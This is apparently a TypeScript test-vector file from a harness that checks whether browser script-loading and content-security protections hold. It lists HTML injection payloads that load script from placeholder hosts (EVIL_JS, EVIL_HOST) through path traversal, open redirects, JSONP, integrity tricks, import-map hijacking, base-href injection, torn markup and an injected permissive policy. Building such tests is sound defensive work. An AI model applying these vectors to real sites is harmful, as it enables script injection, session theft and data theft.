import type { Vector } from '../vector.ts'

const body = (id: string, what: string, markup: string, more: Partial<Vector> = {}): Vector => ({
  id,
  what,
  markup,
  at: 'body-end',
  ...more,
})
const head = (id: string, what: string, markup: string, more: Partial<Vector> = {}): Vector => ({
  id,
  what,
  markup,
  at: 'head',
  ...more,
})

/** Script elements and all that leads to one: paths, integrity, import maps, hints, `<base>`, torn markup. */
export const scripts: readonly Vector[] = [
  body('scriptSlash', '`<script/x>`', '<script/x>MARK</script>'),
  body('scriptType', '`<script type="text/ecmascript">`', '<script type="text/ecmascript">MARK</script>'),
  body(
    'scriptLanguage',
    '`<script language="JavaScript1.5">`',
    '<script language="JavaScript1.5">MARK</script>',
  ),
  body('scriptFor', '`<script for=window event=onload>`', '<script for=window event=onload>MARK</script>'),
  body('moduleInline', '`<script type=module>` with text', '<script type=module>MARK</script>'),
  body(
    'moduleInlineImport',
    '`<script type=module>` that imports',
    '<script type=module>import "EVIL_JS"</script>',
  ),
  body(
    'moduleInlineDynamic',
    '`<script type=module>` that imports `data:` dynamically',
    '<script type=module>import("DATA_JS")</script>',
  ),
  body('moduleData', '`<script type=module src="data:…">`', '<script type=module src="DATA_JS"></script>'),
  body('scriptJavascript', '`<script src="javascript:…">`', '<script src="javascript:MARK"></script>', {
    control: [],
  }),
  body('handlerImport', '`import()` in a handler', `<img src=missing.png onerror="import('EVIL_JS')">`),
  body('scriptAsync', '`<script async src>`, foreign', '<script async src="EVIL_JS"></script>'),
  body('scriptDefer', '`<script defer src>`, foreign', '<script defer src="EVIL_JS"></script>'),
  body('scriptUpperCase', '`<SCRIPT SRC>`, foreign', '<SCRIPT SRC="EVIL_JS"></SCRIPT>'),
  body('protocolRelative', '`<script src="//…">`, foreign', '<script src="//EVIL_HOST/up/ID.js"></script>'),
  body('backslashes', '`<script src="/\\…">`, foreign', '<script src="/\\EVIL_HOST/up/ID.js"></script>'),
  head('classicHead', '`<script src>`, foreign, before the app', '<script src="EVIL_JS"></script>'),
  head(
    'moduleHead',
    '`<script type=module src>`, foreign, before the app',
    '<script type=module crossorigin src="EVIL_JS"></script>',
  ),
  head('uploadHead', '`<script src>`, uploaded, before the app', '<script src="OWN_JS"></script>'),
  body(
    'evilDirectory',
    "a foreign directory named like the build's",
    '<script src="EVIL/assets/ID.js"></script>',
  ),
  body(
    'evilDirectoryModule',
    'the same as a module',
    '<script type=module crossorigin src="EVIL/assets/ID.js"></script>',
  ),
  body('dotsInPath', '`/assets/../up/…`', '<script src="/assets/../up/ID.js"></script>'),
  body('encodedDots', '`/assets/%2e%2e/up/…`', '<script src="/assets/%2e%2e/up/ID.js"></script>'),
  body('backslashPath', '`/assets\\..\\up\\…`', '<script src="/assets\\..\\up\\ID.js"></script>'),
  body(
    'fragmentPath',
    '`/up/…#/assets/`, `/up/…?/assets/`',
    '<script src="/up/ID.js#/assets/x.js"></script><script src="/up/ID.js?/assets/x.js"></script>',
  ),
  body('encodedSlash', '`/assets/..%2fup/…`', '<script src="/assets/..%2fup/ID.js"></script>', {
    limit:
      'the path is inside the directory for the browser, and outside for a server that decodes `%2f` before it looks for the file',
  }),
  body(
    'redirectToEvil',
    'an open redirect inside the directory, to a foreign script',
    '<script src="/assets/out?to=EVIL/up/ID.js"></script>',
  ),
  body(
    'redirectToUpload',
    'an open redirect inside the directory, to an uploaded script',
    '<script src="/assets/out?to=/up/ID.js"></script>',
    { limit: 'after a redirect browsers compare the origin alone, not the path' },
  ),
  body(
    'redirectOutside',
    'an open redirect outside the directory',
    '<script src="/api/out?to=EVIL/up/ID.js"></script>',
  ),
  body(
    'jsonp',
    'an answer of the site that calls what the address names',
    '<script src="/api/feed?callback=MARK;x"></script>',
  ),
  body(
    'integrityBoth',
    'integrity of an app file and of the foreign script together',
    '<script crossorigin integrity="APP_SHA384 EVIL_SHA384" src="EVIL_JS"></script>',
  ),
  body(
    'integrityStronger',
    'the same, with a stronger hash for the foreign script',
    '<script crossorigin integrity="APP_SHA384 EVIL_SHA512" src="EVIL_JS"></script>',
  ),
  body(
    'integrityModule',
    'the same as a module',
    '<script type=module crossorigin integrity="APP_SHA384 EVIL_SHA384" src="EVIL_JS"></script>',
  ),
  body(
    'integrityUnknown',
    'integrity of an app file beside an unknown algorithm',
    '<script crossorigin integrity="sha1-x EVIL_SHA384?APP_SHA384" src="EVIL_JS"></script>',
  ),
  head(
    'integrityPreloaded',
    'a modulepreload with integrity for a foreign module',
    '<link rel=modulepreload crossorigin integrity="EVIL_SHA384" href="EVIL_JS"><script type=module crossorigin integrity="EVIL_SHA384" src="EVIL_JS"></script>',
  ),
  head(
    'importMapStatic',
    'an import map before the app: its static import elsewhere',
    '<script type=importmap>{"imports":{"STATIC_CHUNK":"EVIL/mod/ID.js"}}</script>',
    { breaks: 'success' },
  ),
  head(
    'importMapLazy',
    'the same for its lazy import',
    '<script type=importmap>{"imports":{"LAZY_CHUNK":"EVIL/mod/ID.js"}}</script>',
    { breaks: 'success' },
  ),
  head(
    'importMapScopes',
    'the same with `scopes`, uploaded',
    '<script type=importmap>{"scopes":{"/assets/":{"LAZY_CHUNK":"/mod/ID.js"}}}</script>',
    { breaks: 'success' },
  ),
  head(
    'importMapIntegrity',
    'an import map that gives the foreign module its integrity',
    '<script type=importmap>{"imports":{"LAZY_CHUNK":"EVIL/mod/ID.js"},"integrity":{"EVIL/mod/ID.js":"MODULE_SHA384","LAZY_CHUNK":""}}</script>',
    { breaks: 'success' },
  ),
  body(
    'importMapAfter',
    "an import map after the app's tags",
    '<script type=importmap>{"imports":{"LAZY_CHUNK":"EVIL/mod/ID.js"}}</script>',
    { breaks: 'success', control: ['chromium', 'webkit'] },
  ),
  body(
    'importMapSvg',
    'an import map in SVG',
    '<svg><script type=importmap>{"imports":{"LAZY_CHUNK":"EVIL/mod/ID.js"}}</script></svg>',
    { breaks: 'success', control: ['chromium', 'webkit'] },
  ),
  head('importMapUrl', '`<script type=importmap src>`', '<script type=importmap src="EVIL_JS"></script>', {
    control: [],
    breaks: 'markup',
  }),
  body(
    'prefetched',
    '`<link rel=prefetch>`, then the script, foreign',
    '<link rel=prefetch as=script href="EVIL_JS"><script src="EVIL_JS"></script>',
  ),
  body(
    'modulepreloadBody',
    "`<link rel=modulepreload>` and the foreign module, after the app's tags",
    '<link rel=modulepreload crossorigin href="EVIL_JS"><script type=module crossorigin src="EVIL_JS"></script>',
  ),
  body(
    'modulepreloadDirectory',
    "the same from a directory named like the build's",
    '<link rel=modulepreload crossorigin href="EVIL/assets/ID.js"><script type=module crossorigin src="EVIL/assets/ID.js"></script>',
  ),
  body(
    'modulepreloadInline',
    'the same, imported by an inline module',
    '<link rel=modulepreload crossorigin href="EVIL_JS"><script type=module>import "EVIL_JS"</script>',
  ),
  body(
    'modulepreloadAlone',
    '`<link rel=modulepreload>` alone',
    '<link rel=modulepreload crossorigin href="EVIL_JS">',
    { control: [] },
  ),
  body(
    'prerender',
    '`<link rel=prerender>`, `<link rel=expect>`',
    '<link rel=prerender href="/up/ID.html"><link rel=expect href="#x" blocking=render>',
    { control: [] },
  ),
  body(
    'speculationrules',
    '`<script type=speculationrules>` that prerenders an uploaded page',
    '<script type=speculationrules>{"prerender":[{"urls":["/up/ID.html"],"eagerness":"immediate"}]}</script>',
    { control: [] },
  ),
  body('htmlImport', '`<link rel=import>`', '<link rel=import href="/up/ID.html">', { control: [] }),
  body('stylesheet', '`<link rel=stylesheet>`, foreign', '<link rel=stylesheet href="EVIL/up/ID.css">', {
    control: [],
  }),
  head('baseBeforeApp', "`<base href>` before the app's tags", '<base href="EVIL/">', { breaks: 'success' }),
  head('torn', "a tag without an end before the app's", '<script src="EVIL_JS" type="" x='),
  head(
    'tornQuote',
    "a tag without an end before the app's, with an open quote",
    `<script src="EVIL_JS" type="" x='`,
    { breaks: 'markup' },
  ),
  head(
    'ownPolicy',
    'a policy of its own that allows all',
    `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline' 'unsafe-eval'"><script>MARK</script>`,
  ),
]
